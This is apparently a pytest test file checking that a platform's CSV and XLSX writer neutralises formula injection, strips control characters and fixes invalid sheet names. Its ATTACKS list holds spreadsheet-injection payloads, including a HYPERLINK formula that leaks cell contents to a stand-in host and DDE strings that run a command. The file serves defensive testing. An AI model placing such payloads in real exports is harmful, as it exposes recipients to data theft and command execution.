"""The kit's writers (``desacerdas.kit.tabular``), which every CSV and XLSX the platform writes goes
through: formula-like text is neutralised, numbers stay numbers, stored control characters and lone
surrogates never break a file, and a round trip through the reader gives the same text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from desacerdas.kit import tabular

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+6281234567890",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", ATTACKS)
def test_csv_formula_cells_get_an_apostrophe_and_read_back_unchanged(value):
    text = tabular.csv_text(["name", value], [[value, 5], ["plain", -7]])
    rows = csv_rows(text)
    assert rows[0][1] == rows[1][0] == tabular.safe_cell(value)
    assert rows[1][0].startswith("'" + value[:1])
    assert rows[1][1] == "5" and rows[2] == ["plain", "-7"]  # numbers stay numbers, unquoted
    back = [cells for _n, cells in tabular.read_rows(text.encode(), "x.csv")]
    assert back[1][0] == value


def test_csv_semicolons_and_tabs_inside_text_cannot_start_a_formula_cell():
    text = tabular.csv_text(None, [["Jl. Raya;=HYPERLINK(1)", "a\tb", "ok", 3]])
    assert text == "Jl. Raya;'=HYPERLINK(1),a\tb,ok,3\r\n"
    # read as a spreadsheet splitting on semicolons would: the new cell starts with the apostrophe
    semicolon_cells = next(csv.reader(io.StringIO(text), delimiter=";"))
    assert semicolon_cells[1].startswith("'=HYPERLINK")
    assert all(not c.startswith(tabular.FORMULA_START) for c in semicolon_cells)


def test_csv_format_is_unchanged_for_ordinary_values():
    assert tabular.csv_text(["nik", "name"], [["5107011705900001", "I Wayan"], [None, 1.5]]) == (
        "nik,name\r\n5107011705900001,I Wayan\r\n,1.5\r\n"
    )
    assert tabular.csv_text(None, [[""]]) == '""\r\n'
    assert tabular.csv_text(None, [['say "hi", then go']]) == '"say ""hi"", then go"\r\n'


@pytest.mark.parametrize("value", ATTACKS)
def test_xlsx_formula_cells_are_quoted_text_never_formulas(tmp_path, value):
    path = tmp_path / "x.xlsx"
    tabular.write(path, ["name", "n"], [[value, 5], ["plain", -7.5]])
    sheet = load_workbook(path).worksheets[0]
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.quotePrefix is True
    assert cell.value == value.replace("\r", "\n") or cell.value == value  # XML normalises a lone CR
    assert sheet["B2"].value == 5 and sheet["B2"].data_type == "n"
    assert sheet["B3"].value == -7.5 and sheet["A3"].quotePrefix is False
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_a_phone_number_in_xlsx_is_text_without_an_apostrophe(tmp_path):
    path = tmp_path / "p.xlsx"
    tabular.write(path, ["phone"], [["+6281234567890"]])
    cell = load_workbook(path).worksheets[0]["A2"]
    assert cell.value == "+6281234567890" and cell.data_type == "s" and cell.quotePrefix


BAD = "Jalan\u000bBaru\x00\x1f\ufffe"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_control_characters_and_lone_surrogates_never_break_a_file(tmp_path, fmt):
    path = tmp_path / f"bad.{fmt}"
    count = tabular.write(
        path, [f"head\x07{fmt}"], [[BAD], ["half \ud800 pair"], ["=\x01x"]], sheet="a[b]\x00"
    )
    assert count == 3
    rows = [cells for _n, cells in tabular.read_rows(path)]
    assert rows[0] == [f"head {fmt}"]
    assert rows[1] == ["Jalan Baru   "]
    assert rows[2] == ["half \ufffd pair"]
    assert rows[3] == ["= x"]


def test_clean_text_keeps_tabs_and_line_breaks():
    assert tabular.clean_text("a\tb\nc\rd") == "a\tb\nc\rd"
    assert tabular.clean_text("Jalan\u000bBaru") == "Jalan Baru"


def test_a_sheet_name_excel_refuses_is_replaced(tmp_path):
    path = tmp_path / "s.xlsx"
    tabular.write(path, ["a"], [], sheet="[x]:*?/\\")
    assert load_workbook(path).sheetnames == ["x"]
    tabular.write(path, ["a"], [], sheet="[]\x00")
    assert load_workbook(path).sheetnames == ["data"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("a;=b", "a;'=b"),
        (";=a", ";'=a"),
        ('a;"=b', "a;\"'=b"),
        ("x\t@y", "x\t'@y"),
        ("-1;+2", "'-1;'+2"),
        ("Jl. 5; - RT 2", "Jl. 5; - RT 2"),  # a space first: no spreadsheet reads a formula there
        ("Banjar; Kaja", "Banjar; Kaja"),
    ],
)
def test_a_semicolon_inside_text_cannot_start_a_formula_cell(value, written):
    assert tabular.safe_cell(value) == written
    text = tabular.csv_text(["x", "y"], [["first", value]])
    assert next(csv.reader(io.StringIO(text.splitlines()[1])))[1] == written
    for cell in next(csv.reader(io.StringIO(text.splitlines()[1]), delimiter=";")):
        assert not cell.startswith(("=", "+", "-", "@"))
    assert [cells for _n, cells in tabular.read_rows(text.encode(), "x.csv")][1] == ["first", value]
